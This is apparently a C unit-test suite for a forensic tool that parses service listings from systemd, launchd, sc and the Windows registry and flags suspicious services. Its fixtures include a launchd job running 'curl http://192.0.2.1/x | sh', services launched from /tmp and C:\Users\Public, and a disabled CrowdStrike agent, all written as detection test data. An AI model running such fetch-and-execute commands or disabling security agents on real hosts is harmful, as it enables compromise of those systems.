/* check_service_listings.c -- services as tools printed them: every form, against what the tool's host is. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "formats/listing/listing.h"
#include "formats/text/buffer.h"
#include "harness.h"
#include "make_hive.h"
#include "make_listings.h"
#include "systemd_box.h"

/* A folder with a file of each form ---------------------------------------------------- */

/* Not of any form, though they speak of services. */
static const char *const strangers[][2] = {
    {"notes.txt", "Run systemctl list-units. x.service is enabled.\nId=3\n{\n a = {\n}\nName=x\n"},
    {"todo.csv", "Name,Date\nSpooler,1\n"},
    {"x.json", "{\"Name\":\"evil\",\"a\":1}\n"},
    {"code.txt", "int main(void)\n{\n    return 0;\n}\n"},
    {"app.log", "Name     : evil\nStatus: ok\n2026-01-01 x.service started\n"},
    {"events.log", "service {\"Name\":\"evil\",\"StartMode\":\"Auto\"}\n"},
};

enum writing { PLAIN, CRLF, WIDE, WIDE_BIG, MARKED, WRITINGS };

/* The text as another program writes it; the caller frees it. */
static char *rewrite(const char *text, enum writing writing, size_t *ret_size)
{
    struct buffer out = {0};

    if (writing == WIDE)
        buffer_put(&out, "\xff\xfe", 2);
    if (writing == WIDE_BIG)
        buffer_put(&out, "\xfe\xff", 2);
    if (writing == MARKED)
        buffer_puts(&out, "\xef\xbb\xbf");
    for (const unsigned char *at = (const unsigned char *)text; *at;) {
        uint32_t c = *at++;
        if (writing != PLAIN && c == '\n' && writing != MARKED)
            buffer_put(&out,
                       writing == CRLF   ? "\r"
                       : writing == WIDE ? "\r\0"
                                         : "\0\r",
                       writing == CRLF ? 1 : 2);
        if (writing != WIDE && writing != WIDE_BIG) {
            buffer_putc(&out, (char)c);
            continue;
        }
        int more = c >= 0xe0 ? 2 : c >= 0xc0 ? 1 : 0;
        c = more == 2 ? c & 0xf : more ? c & 0x1f : c;
        while (more--)
            c = c << 6 | (*at++ & 0x3f);
        char units[2] = {(char)c, (char)(c >> 8)};
        char big[2] = {units[1], units[0]};
        buffer_put(&out, writing == WIDE ? units : big, 2);
    }
    *ret_size = out.size;
    return out.data;
}

/* A form is known by its first line: with another word in it, a file is of somebody else. */
static const struct {
    const char *text;
    bool        is;
} beginnings[] = {
    {"PID\tStatus\tLabel\n", true},
    {"PIDS\tStatus\tLabel\n", false},
    {"PID\tState\tLabel\n", false},
    {"PID\tStatus\tLabels\n", false},
    {"PID\tStatus\tLabel\tMore\n", false},
    {"Label\n", false},
    {"\tdisabled services = {\n", true},
    {"\tdisabled jobs = {\n", false},
    {"com.example.a = {\n", true},
    {"com.example = {\n", false},
    {"\"com.example.a\" = {\n", false},
    {"com.example.a {\n", false},
    {"gui/501 = {\n", true},
    {"user/501 = {\n", true},
    {"login/501 = {\n", true},
    {"system = {\n", true},
    {"users/501 = {\n", false},
    {"UNIT LOAD ACTIVE SUB DESCRIPTION\n", true},
    {"UNITS LOAD ACTIVE SUB DESCRIPTION\n", false},
    {"UNIT LOADED ACTIVE SUB DESCRIPTION\n", false},
    {"UNIT LOAD ACTIVATED SUB DESCRIPTION\n", false},
    {"UNIT LOAD ACTIVE SUBS DESCRIPTION\n", false},
    {"UNIT LOAD ACTIVE\n", false},
    {"a.service loaded active running A\n", true},
    {"a.txt loaded active running A\n", false},
    {"a.service laden active running A\n", false},
    {"a.service loaded aktiv running A\n", false},
    {"UNIT FILE STATE PRESET\n", true},
    {"UNITS FILE STATE PRESET\n", false},
    {"UNIT FILES STATE PRESET\n", false},
    {"UNIT FILE STATES PRESET\n", false},
    {"a.service enabled enabled\n", true},
    {"a.service enabled wanted\n", false},
    {"a.txt enabled enabled\n", false},
    {"a.service wanted enabled\n", false},
    {"a.service enabled\n", false},
    {"a.service enabled\nb.service static\n", true},
    {"a.txt enabled\nb.service static\n", false},
    {"NEXT LEFT LAST PASSED UNIT ACTIVATES\n", true},
    {"NEXT LEFT LAST PASSED UNIT\n", false},
    {"NEXT DAY LAST PASSED UNIT ACTIVATES\n", false},
    {"DAY LEFT LAST PASSED UNIT ACTIVATES\n", false},
    {"NEXT LEFT LAST PASSED UNITS ACTIVATES\n", false},
    {"NEXT LEFT LAST PASSED UNIT STARTS\n", false},
    {"* a.service - A\n", true},
    {"* a.service\n", true},
    {"* a.service: A\n", false},
    {"* a.txt - A\n", false},
    {"x\n* a.service - A\n", true},
    {"x\n * a.service - A\n", false},
    {"a.service - A\n", false},
    {"SERVICE_NAME: a\n", true},
    {"SERVICE_NAME : a\n", true},
    {"[SC] QueryServiceConfig SUCCESS\n", true},
    {"[SC] OpenService SUCCESS\n", false},
    {"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\a\n", true},
    {"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\n", true},
    {"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\a\n", false},
    {"Windows Registry Editor Version 5.00\n", true},
    {"REGEDIT4\n", true},
    {"REGEDIT\n", false},
    {"Status   Name    DisplayName\n", true},
    {"Status Name DisplayName\n", false},
    {"Status Name DisplayName\n------ ---- -----------\n", true},
    {"Status Name DisplayName\n---\n", false},
    {"Status   Names   DisplayName\n", false},
    {"Name   DisplayName\n", false},
    {"Name   Status\n", false},
    {"Name   StartType\n", true},
    {"Name:  StartType\n", false},
    {"ServiceName  PathName\n", true},
    {"Name,StartMode\n", true},
    {"StartMode;Name\n", true},
    {"\"Name\"\t\"StartMode\"\r\n", true},
    {"Names,StartMode\n", false},
    {"Name,StartModes\n", false},
    {"MyName,StartMode\n", false},
    {"#TYPE System.ServiceProcess.ServiceController\nName,StartMode\n", true},
    {"#TYPE System.ServiceProcess.ServiceController\nNames,StartMode\n", false},
    {"#TYPE,Name,StartMode\n", false},
    {"service {\"Name\":\"a\",\"StartMode\":\"Auto\"}\n", false},
    {"\n", false},
    {" \t\r\n", false},
    {"", false},
};

START_TEST(a_form_is_known_by_the_words_of_its_beginning)
{
    const char *text = beginnings[_i].text;

    ck_assert_msg(listing_is(text, strlen(text)) == beginnings[_i].is, "%s", text);
}
END_TEST

START_TEST(every_form_is_read_however_it_is_written)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();

    for (size_t i = 0; i < made_listings_n; i++) {
        size_t size;
        char  *text = rewrite(made_listings[i].text, (enum writing)_i, &size);
        harness_write(dir, made_listings[i].file, text, size);
        free(text);
    }
    for (size_t i = 0; i < sizeof strangers / sizeof strangers[0]; i++)
        harness_write_text(dir, strangers[i][0], strangers[i][1]);
    harness_query(db, "INSERT INTO evidence(location) VALUES ('%s')", dir);
    for (size_t i = 0; i < made_listings_n; i++) {
        harness_expect(db, made_listings[i].rows,
                       "SELECT name, status, start_type, replace(command, char(10), ';') "
                       "FROM service_listings WHERE source = '%s/%s'",
                       dir, made_listings[i].file);
        harness_expect(db, made_listings[i].form,
                       "SELECT min(form) FROM service_listings WHERE source = '%s/%s'", dir,
                       made_listings[i].file);
        harness_expect(db, "service_listings|read|0",
                       "SELECT table_name, status, skipped FROM evidence_sources "
                       "WHERE location = '%s/%s'",
                       dir, made_listings[i].file);
    }
    for (size_t i = 0; i < sizeof strangers / sizeof strangers[0]; i++)
        harness_expect(db, "unknown",
                       "SELECT status FROM evidence_sources WHERE location = '%s/%s'", dir,
                       strangers[i][0]);
    harness_close(db);
}
END_TEST

/* launchd's domains: of a user, of a login, and of a session that has windows. */
START_TEST(jobs_of_users_are_told_from_those_of_the_system)
{
    static const char *const jobs[][2] = {{"a", "gui/501/a = {\n\tstate = running\n}\n"},
                                          {"b", "user/501/b = {\n\tstate = running\n}\n"},
                                          {"c", "system/c = {\n\tstate = running\n}\n"},
                                          {"d", "{\n\t\"LimitLoadToSessionType\" = \"Aqua\";\n\t"
                                                "\"Label\" = \"d\";\n};\n"},
                                          {"e", "{\n\t\"LimitLoadToSessionType\" = \"System\";\n\t"
                                                "\"Label\" = \"e\";\n};\n"}};
    sqlite3                 *db = harness_open();
    const char              *dir = harness_scratch();
    char                     name[100];

    for (size_t i = 0; i < sizeof jobs / sizeof jobs[0]; i++) {
        snprintf(name, sizeof name, "launchctl_%s.txt", jobs[i][0]);
        harness_write_text(dir, name, jobs[i][1]);
    }
    harness_query(db, "DELETE FROM evidence; INSERT INTO evidence(location) VALUES ('%s')", dir);
    harness_expect(db, "a|user\nb|user\nc|system\nd|user\ne|system",
                   "SELECT name, scope FROM services ORDER BY 1");
    harness_close(db);
}
END_TEST

/* A collector's script writes several commands into one file, with words between. */
START_TEST(several_commands_in_one_file_are_told_apart)
{
    sqlite3      *db = harness_open();
    const char   *dir = harness_scratch();
    struct buffer all = {0};
    size_t        n = 0;

    for (size_t i = 0; i < made_listings_n; i++) {
        const char *file = made_listings[i].file, *dot = strrchr(file, '.');
        if (strcmp(dot, ".txt") != 0 || strncmp(file, "old_", 4) == 0)
            continue;
        buffer_printf(&all, "##### %s\n%s\n", file, made_listings[i].text);
        for (const char *at = made_listings[i].rows; at; at = strchr(at, '\n'), at += at != NULL)
            n++;
    }
    harness_write(dir, "live.txt", all.data, all.size);
    buffer_free(&all);
    ck_assert_int_eq(harness_int(db, "SELECT count(*) FROM service_listings('%s/live.txt')", dir),
                     (int64_t)n);
    harness_close(db);
}
END_TEST

/* What the view of all services shows, and what is judged. */
START_TEST(listed_services_are_judged_as_others)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();

    harness_write_text(dir, "sc.txt",
                       "SERVICE_NAME: evil\n        TYPE               : 10  WIN32_OWN_PROCESS\n"
                       "        START_TYPE         : 2   AUTO_START\n"
                       "        BINARY_PATH_NAME   : C:\\Users\\Public\\x.exe\n"
                       "        SERVICE_START_NAME : LocalSystem\n");
    harness_write_text(dir, "show.txt",
                       "ExecStart={ path=/tmp/x ; argv[]=/tmp/x -a ; ignore_errors=no ; "
                       "start_time=[n/a] }\nId=evil.service\nLoadState=loaded\n"
                       "FragmentPath=/etc/systemd/system/evil.service\n");
    harness_write_text(
        dir, "print.txt",
        "gui/501/com.evil = {\n\tpath = /Users/a/Library/LaunchAgents/com.evil.plist\n"
        "\tprogram = /bin/sh\n\targuments = {\n\t\t/bin/sh\n\t\t-c\n"
        "\t\tcurl http://192.0.2.1/x | sh\n\t}\n}\n");
    harness_write_text(dir, "disabled.txt",
                       "\tdisabled services = {\n\t\t\"com.apple.security.syspolicy\" => disabled\n"
                       "\t\t\"com.crowdstrike.falcond\" => disabled\n\t}\n");
    harness_query(db, "DELETE FROM evidence; INSERT INTO evidence(location) VALUES ('%s')", dir);
    harness_expect(db,
                   "windows|evil|C:\\Users\\Public\\x.exe|LocalSystem|AUTO_START\n"
                   "linux|evil.service|/tmp/x|NULL|NULL\nmacos|com.evil|/bin/sh|NULL|NULL",
                   "SELECT platform, name, path, user_account, start_type FROM services "
                   "WHERE name LIKE '%%evil%%' ORDER BY platform = 'windows' DESC, platform");
    harness_expect(db, "1",
                   "SELECT count(*) FROM findings WHERE severity IN ('medium', 'high', 'critical') "
                   "AND subject LIKE '%%\\Services\\evil' AND source LIKE '%%/sc.txt'");
    harness_expect(db, "1",
                   "SELECT count(*) FROM findings WHERE severity IN ('high', 'critical') "
                   "AND subject = '/etc/systemd/system/evil.service' "
                   "AND signals LIKE '%%runs_from_temp%%'");
    harness_expect(db, "1",
                   "SELECT count(*) FROM findings WHERE severity IN ('high', 'critical') "
                   "AND subject = '/Users/a/Library/LaunchAgents/com.evil.plist' "
                   "AND signals LIKE '%%pipe_to_shell%%'");
    harness_expect(db, "1",
                   "SELECT count(*) FROM findings WHERE subject = 'com.crowdstrike.falcond' "
                   "AND signals LIKE '%%stops_security%%'");
    harness_close(db);
}
END_TEST

START_TEST(what_is_not_understood_is_counted)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();

    harness_write_text(dir, "sc.txt",
                       "NOM_SERVICE: Spooler\n        TYPE               : 10  WIN32_OWN_PROCESS\n"
                       "        \xc3\x89TAT               : 4  RUNNING\n");
    harness_write_text(dir, "cut.txt",
                       "\nStatus   Name               DisplayName\n------   ----               "
                       "-----------\nRunning  Appinfo            Application Information\n"
                       "Stopped  VeryLongNameOfA... Cut\n");
    harness_query(db, "INSERT INTO evidence(location) VALUES ('%s')", dir);
    harness_query(db, "SELECT * FROM service_listings");
    harness_expect(db, "damaged|0|2|2 lines in another language than English",
                   "SELECT status, records, skipped, detail FROM evidence_sources "
                   "WHERE location = '%s/sc.txt'",
                   dir);
    harness_expect(db, "damaged|1|1|1 records that could not be read whole",
                   "SELECT status, records, skipped, detail FROM evidence_sources "
                   "WHERE location = '%s/cut.txt'",
                   dir);
    harness_close(db);
}
END_TEST

/* Values that are no process's number, or that end in their middle. */
START_TEST(a_value_that_is_not_whole_is_counted_with_its_row)
{
#define LONG "99999999999999999999"
    static const char *const texts[][3] = {
        {"PID\tStatus\tLabel\n" LONG "\t0\tcom.a\n7\t0\tcom.b\n",
         "com.a|NULL|RUNNING\ncom.b|7|RUNNING", "damaged|2|1"},
        {"{\n\t\"Label\" = \"com.a\";\n\t\"PID\" = " LONG ";\n\t\"OnDemand\" = true;\n};\n",
         "com.a|NULL|NULL", "damaged|1|1"},
        {"Id=a.service\nActiveState=active\nExecStart={ path=/bin/a ; argv[]=/bin/a -x\n",
         "a.service|NULL|RUNNING", "damaged|1|1"},
        {"Id=a.service\nActiveState=active\nExecStart={ pa\n\nId=b.service\nActiveState=active\n",
         "a.service|NULL|RUNNING\nb.service|NULL|RUNNING", "damaged|2|1"},
    };
#undef LONG
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();

    harness_write_text(dir, "a.txt", texts[_i][0]);
    harness_expect(db, texts[_i][1],
                   "SELECT name, pid, status FROM service_listings('%s/a.txt') ORDER BY 1", dir);
    harness_expect(
        db, texts[_i][2],
        "SELECT status, records, skipped FROM evidence_sources WHERE location = '%s/a.txt'", dir);
    harness_close(db);
}
END_TEST

/* Oracles ------------------------------------------------------------------------------- */

/* A real manager's own words, and the tables that ask it and read its files. */
START_TEST(systemctl_says_what_the_tables_do)
{
    ENTER();
    systemd_shell(
        "printf '[Unit]\\nDescription=The evil one\\n[Service]\\nUser=tester\\n"
        "ExecStart=/bin/sleep 1000\\nExecStop=/bin/true \"a b\"\\n[Install]\\n"
        "WantedBy=multi-user.target\\n' > /etc/systemd/system/evil.service; "
        "systemctl daemon-reload; systemctl -q enable --now evil.service; mkdir -p %s/said",
        box);
    systemd_shell("cd %s/said; systemctl list-units --all > list-units.txt; "
                  "systemctl list-units --all --output=json > list-units.json; "
                  "systemctl list-unit-files > list-unit-files.txt; "
                  "systemctl list-unit-files --output=json > list-unit-files.json; "
                  "systemctl show '*' > show.txt; systemctl list-timers --all > timers.txt; "
                  "systemctl status --no-pager '*.service' > status.txt || :",
                  box);
    sqlite3 *db = harness_open();
    for (int json = 0; json < 2; json++) {
        const char *end = json ? "json" : "txt";
        harness_expect(
            db, "0|0|0",
            "SELECT (SELECT count(*) FROM (SELECT id, CASE active_state WHEN 'active' "
            "THEN 'RUNNING' WHEN 'inactive' THEN 'STOPPED' ELSE upper(active_state) END, "
            "load_state FROM systemd_units WHERE scope = 'system' "
            "EXCEPT SELECT name COLLATE BINARY, status, load_state "
            "FROM service_listings('%s/said/list-units.%s'))), (SELECT count(*) FROM "
            "(SELECT name COLLATE BINARY FROM service_listings('%s/said/list-units.%s') "
            "EXCEPT SELECT id FROM systemd_units)), (SELECT count(*) - count(DISTINCT name COLLATE "
            "BINARY) FROM service_listings('%s/said/list-units.%s'))",
            box, end, box, end, box, end);
        harness_expect(db, "evil.service|enabled|AUTO_START",
                       "SELECT name, state, start_type FROM "
                       "service_listings('%s/said/list-unit-files.%s') WHERE name = 'evil.service'",
                       box, end);
        ck_assert_int_eq(
            harness_int(db, "SELECT count(*) FROM service_listings('%s/said/list-unit-files.%s')",
                        box, end),
            harness_int(db, "SELECT count(*) FROM service_listings('%s/said/list-unit-files.txt')",
                        box));
    }
    harness_expect(
        db, "0",
        "SELECT count(*) FROM (SELECT id, load_state, nullif(fragment_path, ''), "
        "nullif(unit_file_state, ''), nullif(main_pid, 0) FROM systemd_units WHERE scope = "
        "'system' AND active_state = 'active' AND type = 'service' EXCEPT SELECT name COLLATE "
        "BINARY, load_state, "
        "definition COLLATE BINARY, state, pid FROM service_listings('%s/said/show.txt'))",
        box);
    harness_expect(db, "tester|/bin/sleep 1000|/bin/sleep|The evil one|RUNNING|2",
                   "SELECT user_account, command, program, description, status, "
                   "json_array_length(commands) FROM service_listings('%s/said/show.txt') "
                   "WHERE name = 'evil.service'",
                   box);
    harness_expect(db, "RUNNING|enabled|/etc/systemd/system/evil.service|The evil one",
                   "SELECT status, state, definition, description FROM "
                   "service_listings('%s/said/status.txt') WHERE name = 'evil.service'",
                   box);
    harness_close(db);
}
END_TEST

/* The same keys in a hive, in a text of reg query and in a .reg file. */
START_TEST(reg_says_what_the_hive_does)
{
    sqlite3          *db = harness_open();
    const char       *dir = harness_scratch();
    struct made_hive *hive = make_hive();
    struct buffer     query = {0}, file = {0};

    buffer_puts(&file, "Windows Registry Editor Version 5.00\n\n");
    make_hive_dword(make_hive_key(hive, "Select"), "Current", 1);
    for (unsigned i = 0; i < 40; i++) {
        static const uint32_t types[] = {0x1, 0x2, 0x10, 0x20, 0x110};
        char                  path[64], image[64];
        snprintf(path, sizeof path, "ControlSet001\\Services\\svc%u", i);
        snprintf(image, sizeof image, "C:\\Program Files\\s%u\\s.exe -k", i);
        struct made_key *key = make_hive_key(hive, path);
        make_hive_dword(key, "Type", types[i % 5]);
        make_hive_dword(key, "Start", i % 5);
        make_hive_expand(key, "ImagePath", image);
        make_hive_string(key, "ObjectName", i % 2 ? "LocalSystem" : "NT AUTHORITY\\NetworkService");
        buffer_printf(
            &query,
            "\nHKEY_LOCAL_MACHINE\\SYSTEM\\%s\n    Type    REG_DWORD    0x%x\n    Start    "
            "REG_DWORD    0x%x\n    ImagePath    REG_EXPAND_SZ    %s\n    ObjectName    "
            "REG_SZ    %s\n",
            path, types[i % 5], i % 5, image,
            i % 2 ? "LocalSystem" : "NT AUTHORITY\\NetworkService");
        buffer_printf(
            &file,
            "[HKEY_LOCAL_MACHINE\\SYSTEM\\%s]\n\"Type\"=dword:%08x\n\"Start\"=dword:%08x\n"
            "\"ObjectName\"=\"%s\"\n\"ImagePath\"=hex(2):",
            path, types[i % 5], i % 5, i % 2 ? "LocalSystem" : "NT AUTHORITY\\\\NetworkService");
        for (const char *at = image; *at; at++)
            buffer_printf(&file, "%02x,00,%s", (unsigned char)*at, at[1] == 's' ? "\\\n  " : "");
        buffer_puts(&file, "00,00\n\n");
    }
    make_hive_file(hive, dir, "SYSTEM");
    make_hive_free(hive);
    harness_write(dir, "query.txt", query.data, query.size);
    harness_write(dir, "export.reg", file.data, file.size);
    buffer_free(&query);
    buffer_free(&file);
    for (int export = 0; export < 2; export ++)
        harness_expect(db, "40|40|0",
                       "SELECT count(*), (SELECT count(*) FROM service_listings('%s/%s')), "
                       "(SELECT count(*) FROM (SELECT name, service_type, start_type, "
                       "image_path, object_name FROM registry_services('%s/SYSTEM') EXCEPT SELECT "
                       "name, service_type, start_type, command, user_account FROM "
                       "service_listings('%s/%s'))) FROM registry_services('%s/SYSTEM')",
                       dir, export ? "export.reg" : "query.txt", dir, dir,
                       export ? "export.reg" : "query.txt", dir);
    harness_close(db);
}
END_TEST

/* A listing of a host whose disk is at hand adds rows, but judges what differs only. */
START_TEST(what_the_disk_says_too_is_judged_once)
{
    sqlite3          *db = harness_open();
    const char       *dir = harness_scratch();
    struct made_hive *hive = make_hive();
    struct made_key  *key = make_hive_key(hive, "ControlSet001\\Services\\evil");

    make_hive_dword(make_hive_key(hive, "Select"), "Current", 1);
    make_hive_dword(key, "Type", 0x10);
    make_hive_dword(key, "Start", 2);
    make_hive_expand(key, "ImagePath", "C:\\Users\\Public\\x.exe");
    make_hive_file(hive, dir, "SYSTEM");
    make_hive_free(hive);
    harness_write_text(
        dir, "sc.txt",
        "SERVICE_NAME: evil\n        BINARY_PATH_NAME   : C:\\Users\\Public\\x.exe\n"
        "SERVICE_NAME: other\n        BINARY_PATH_NAME   : C:\\Users\\Public\\y.exe\n");
    harness_query(db, "DELETE FROM evidence; INSERT INTO evidence(location) VALUES ('%s')", dir);
    harness_expect(db, "SYSTEM|sc.txt",
                   "SELECT group_concat(replace(source, '%s/', ''), '|') FROM (SELECT source FROM "
                   "services WHERE name = 'evil' ORDER BY source)",
                   dir);
    harness_expect(db, "SYSTEM\nsc.txt",
                   "SELECT replace(source, '%s/', '') FROM findings WHERE subject LIKE "
                   "'%%\\Services\\%%' ORDER BY 1",
                   dir);
    harness_close(db);
}
END_TEST

/* Bytes cut anywhere end in what was before, and in no harm. */
START_TEST(a_form_cut_anywhere_gives_what_is_before_the_cut)
{
    for (size_t i = 0; i < made_listings_n; i++)
        for (size_t size = 0, whole = strlen(made_listings[i].text); size <= whole; size++) {
            struct listing *listing;
            const char     *data = made_listings[i].text;
            size_t          n = size, rows = 0;
            ck_assert_int_eq(listing_new(&listing), 0);
            while (listing_feed(listing, &data, &n) > 0)
                rows++;
            while (listing_end(listing) > 0)
                rows++;
            ck_assert_msg(rows < 10, "%s: %zu rows", made_listings[i].file, rows);
            listing_free(listing);
        }
}
END_TEST

Suite *make_service_listings_suite(void)
{
    Suite *suite = suite_create("service_listings");
    TCase *tc = tcase_create("forms"), *t = tcase_create("systemd");

    tcase_set_timeout(tc, 60);
    tcase_add_loop_test(tc, a_form_is_known_by_the_words_of_its_beginning, 0,
                        sizeof beginnings / sizeof beginnings[0]);
    tcase_add_loop_test(tc, every_form_is_read_however_it_is_written, 0, WRITINGS);
    tcase_add_test(tc, jobs_of_users_are_told_from_those_of_the_system);
    tcase_add_test(tc, several_commands_in_one_file_are_told_apart);
    tcase_add_test(tc, listed_services_are_judged_as_others);
    tcase_add_test(tc, what_is_not_understood_is_counted);
    tcase_add_loop_test(tc, a_value_that_is_not_whole_is_counted_with_its_row, 0, 4);
    tcase_add_test(tc, reg_says_what_the_hive_does);
    tcase_add_test(tc, what_the_disk_says_too_is_judged_once);
    tcase_add_test(tc, a_form_cut_anywhere_gives_what_is_before_the_cut);
    suite_add_tcase(suite, tc);
    tcase_set_timeout(t, 60);
    tcase_add_unchecked_fixture(t, boot, halt);
    tcase_add_test(t, systemctl_says_what_the_tables_do);
    suite_add_tcase(suite, t);
    return suite;
}
